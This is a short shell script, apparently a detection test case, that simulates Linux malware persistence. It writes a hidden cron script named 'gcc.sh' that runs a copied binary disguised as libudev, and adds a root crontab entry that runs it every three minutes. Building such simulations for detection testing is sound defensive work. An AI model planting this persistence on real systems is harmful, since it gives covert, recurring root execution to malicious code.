#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.hourly
cat >/etc/cron.hourly/gcc.sh <<'END'
#!/bin/sh
PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin
for i in $(cat /proc/net/dev | grep : | awk -F: '{print $1}'); do ifconfig $i up & done
cp /lib/libudev.so /lib/libudev.so.6
/lib/libudev.so.6
END
chmod +x /etc/cron.hourly/gcc.sh
sed -i '/\/etc\/cron.hourly\/gcc.sh/d' /etc/crontab 2>/dev/null || true
echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >>/etc/crontab
grep -q gcc.sh /etc/crontab
took_place
